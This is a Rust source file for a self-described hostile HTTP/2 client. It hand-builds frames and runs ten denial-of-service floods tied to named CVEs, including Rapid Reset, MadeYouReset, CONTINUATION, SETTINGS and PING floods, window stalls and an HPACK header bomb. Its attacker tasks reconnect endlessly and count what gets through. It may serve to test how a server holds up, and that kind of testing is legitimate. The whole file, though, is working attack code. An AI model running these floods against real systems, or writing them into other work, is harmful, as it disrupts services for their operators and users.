//! A client that means harm: HTTP/2 frames by hand, as many of one kind as the other side takes.
//!
//! It connects again whenever it is thrown out, and counts. It speaks HTTP/2 without TLS, with prior knowledge.

use std::net::SocketAddr;
use std::process::Stdio;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0x0;
const HEADERS: u8 = 0x1;
const PRIORITY: u8 = 0x2;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const GOAWAY: u8 = 0x7;
const WINDOW_UPDATE: u8 = 0x8;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

/// Frames in one write.
const BATCH: u32 = 64;
/// Streams of one stalled connection.
const STALLED: u32 = 100;
/// How long a connection that is neither served nor closed is kept before another one is tried.
const KEPT: Duration = Duration::from_secs(120);

/// What it does.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Flood {
    /// Requests that are reset at once (CVE-2023-44487).
    RapidReset,
    /// Streams that the server is made to reset (CVE-2025-8671).
    MadeYouReset,
    /// A header section that never ends (CVE-2024-27316 and others).
    Continuation,
    /// SETTINGS, each of which wants an acknowledgement (CVE-2019-9515).
    Settings,
    /// PING, each of which wants an answer (CVE-2019-9512).
    Ping,
    /// DATA without data (CVE-2019-9518).
    EmptyData,
    /// PRIORITY (CVE-2019-9513).
    Priority,
    /// WINDOW_UPDATE of one byte.
    WindowUpdate,
    /// Large responses that there is no window for (CVE-2019-9517).
    WindowStall,
    /// A small header section that unfolds to a large one.
    HeaderBomb,
}

impl Flood {
    /// All of them.
    pub const ALL: [Self; 10] = [
        Self::RapidReset,
        Self::MadeYouReset,
        Self::Continuation,
        Self::Settings,
        Self::Ping,
        Self::EmptyData,
        Self::Priority,
        Self::WindowUpdate,
        Self::WindowStall,
        Self::HeaderBomb,
    ];
}

/// Where it goes.
#[derive(Clone, Debug)]
pub struct Target {
    /// The entry point.
    pub address: SocketAddr,
    /// A host that is routed.
    pub host: String,
    /// A path with a large answer, of less than 127 bytes.
    pub large: String,
}

/// What became of it.
#[derive(Debug, Default)]
pub struct Count {
    /// Connections made.
    pub connections: AtomicU64,
    /// Connections that ended with GOAWAY.
    pub told: AtomicU64,
    /// Bytes sent.
    pub bytes: AtomicU64,
}

impl Count {
    /// Connections, those told to calm down, and bytes, so far.
    pub fn now(&self) -> [u64; 3] {
        [&self.connections, &self.told, &self.bytes].map(|count| count.load(Ordering::Relaxed))
    }
}

/// A flood that comes from another process, of the least priority.
#[derive(Debug)]
pub struct Apart(tokio::process::Child);

impl Apart {
    /// Starts this program once more, as [`serve_apart`].
    ///
    /// # Panics
    /// When that fails.
    pub fn start(flood: Flood, target: &Target, attackers: usize) -> Self {
        let kind = clap::ValueEnum::to_possible_value(&flood).unwrap();
        let child = tokio::process::Command::new("nice")
            .args(["-n", "19"])
            .arg(std::env::current_exe().unwrap())
            .args([
                "attack",
                kind.get_name(),
                &target.address.to_string(),
                &target.host,
            ])
            .args([&target.large, &attackers.to_string()])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .kill_on_drop(true)
            .spawn()
            .unwrap();
        Self(child)
    }

    /// Ends it; what became of it.
    ///
    /// # Panics
    /// When it does not say.
    pub async fn stop(mut self) -> [u64; 3] {
        drop(self.0.stdin.take());
        let output = self.0.wait_with_output().await.unwrap();
        serde_json::from_slice(&output.stdout).unwrap()
    }
}

/// The other process: attacks until its standard input ends. Returns what it has to print.
pub async fn serve_apart(flood: Flood, target: &Target, attackers: usize) -> String {
    let running = Running::start(flood, target, attackers);
    tokio::io::copy(&mut tokio::io::stdin(), &mut tokio::io::sink())
        .await
        .unwrap_or_default();
    serde_json::json!(running.count().now()).to_string()
}

/// A flood that runs until it is dropped.
#[derive(Debug)]
pub struct Running {
    count: Arc<Count>,
    _attackers: JoinSet<()>,
}

impl Running {
    /// Starts so many attackers with one connection each at a time.
    pub fn start(flood: Flood, target: &Target, attackers: usize) -> Self {
        let count = Arc::new(Count::default());
        let mut tasks = JoinSet::new();
        for _ in 0..attackers {
            let (target, count) = (target.clone(), count.clone());
            tasks.spawn(async move {
                loop {
                    // Thrown out, refused or reset: all the same to it.
                    attack(flood, &target, &count).await.unwrap_or_default();
                    tokio::time::sleep(Duration::from_millis(5)).await;
                }
            });
        }
        Self {
            count,
            _attackers: tasks,
        }
    }

    /// What became of it so far.
    pub fn count(&self) -> &Count {
        &self.count
    }
}

/// One connection, until it ends.
async fn attack(flood: Flood, target: &Target, count: &Count) -> std::io::Result<()> {
    let mut socket = TcpStream::connect(target.address).await?;
    socket.set_nodelay(true)?;
    count.connections.fetch_add(1, Ordering::Relaxed);
    let (mut from, mut to) = socket.split();
    let sending = async {
        to.write_all(PREFACE).await?;
        to.write_all(&opening(flood, target)).await?;
        for turn in 0..u32::MAX / BATCH / 4 {
            let batch: Vec<u8> = (turn * BATCH..(turn + 1) * BATCH)
                .flat_map(|number| step(flood, target, number))
                .collect();
            if batch.is_empty() {
                // It has what it wants, and keeps it.
                tokio::time::sleep(KEPT).await;
                return Ok(());
            }
            to.write_all(&batch).await?;
            count.bytes.fetch_add(batch.len() as u64, Ordering::Relaxed);
        }
        Ok(())
    };
    let reading = async {
        loop {
            let mut head = [0; 9];
            from.read_exact(&mut head).await?;
            let length = u64::from(u32::from_be_bytes([0, head[0], head[1], head[2]]));
            tokio::io::copy(&mut (&mut from).take(length), &mut tokio::io::sink()).await?;
            if head[3] == GOAWAY {
                count.told.fetch_add(1, Ordering::Relaxed);
                return Ok(());
            }
        }
    };
    tokio::select! {
        ended = sending => ended,
        ended = reading => ended,
    }
}

/// What comes before the flood.
fn opening(flood: Flood, target: &Target) -> Vec<u8> {
    let mut bytes = match flood {
        // SETTINGS_INITIAL_WINDOW_SIZE: 0
        Flood::WindowStall => frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]),
        _ => frame(SETTINGS, 0, 0, &[]),
    };
    match flood {
        Flood::EmptyData => bytes.extend(frame(HEADERS, END_HEADERS, 1, &head(target, 0x83, "/"))),
        Flood::Continuation => bytes.extend(frame(HEADERS, 0, 1, &head(target, 0x82, "/"))),
        Flood::HeaderBomb => {
            // One field of 4,000 bytes goes into the table.
            let mut block = head(target, 0x82, "/");
            block.extend_from_slice(b"\x40\x01x\x7f");
            block.extend(variable(4000 - 127));
            block.extend(vec![b'x'; 4000]);
            bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, 1, &block));
        }
        _ => {}
    }
    bytes
}

/// The frames of one step; none when it is enough.
fn step(flood: Flood, target: &Target, number: u32) -> Vec<u8> {
    let stream = 2 * number + 1;
    match flood {
        Flood::RapidReset => {
            let mut both = frame(
                HEADERS,
                END_HEADERS | END_STREAM,
                stream,
                &head(target, 0x82, "/"),
            );
            both.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
            both
        }
        Flood::MadeYouReset => {
            let mut both = frame(
                HEADERS,
                END_HEADERS | END_STREAM,
                stream,
                &head(target, 0x82, "/"),
            );
            // An increment of 0 is an error of the stream.
            both.extend(frame(WINDOW_UPDATE, 0, stream, &[0; 4]));
            both
        }
        // A literal field without indexing.
        Flood::Continuation => frame(CONTINUATION, 0, 1, b"\x00\x01x\x01x"),
        Flood::Settings => frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]),
        Flood::Ping => frame(PING, 0, 0, &[0; 8]),
        Flood::EmptyData => frame(DATA, 0, 1, &[]),
        Flood::Priority => frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 1]),
        Flood::WindowUpdate => frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
        Flood::WindowStall if number >= STALLED => Vec::new(),
        Flood::WindowStall => {
            let block = head(target, 0x82, &target.large);
            frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)
        }
        Flood::HeaderBomb => {
            // The field of the table, 8,000 times: 32 MB.
            let mut block = head(target, 0x82, "/");
            block.extend(vec![0xbe; 8000]);
            frame(HEADERS, END_HEADERS | END_STREAM, stream + 2, &block)
        }
    }
}

/// A request's header block that leaves the table alone. `method` is indexed: 0x82 is GET, 0x83 POST.
fn head(target: &Target, method: u8, path: &str) -> Vec<u8> {
    let mut block = vec![method, 0x86];
    for (name, value) in [(0x04, path), (0x01, target.host.as_str())] {
        block.push(name);
        block.push(u8::try_from(value.len()).unwrap());
        block.extend_from_slice(value.as_bytes());
    }
    block
}

/// What follows a prefix that is full (RFC 7541 section 5.1).
fn variable(mut value: usize) -> Vec<u8> {
    let mut bytes = Vec::new();
    while value >= 128 {
        bytes.push(u8::try_from(value % 128).unwrap() | 0x80);
        value /= 128;
    }
    bytes.push(u8::try_from(value).unwrap());
    bytes
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}
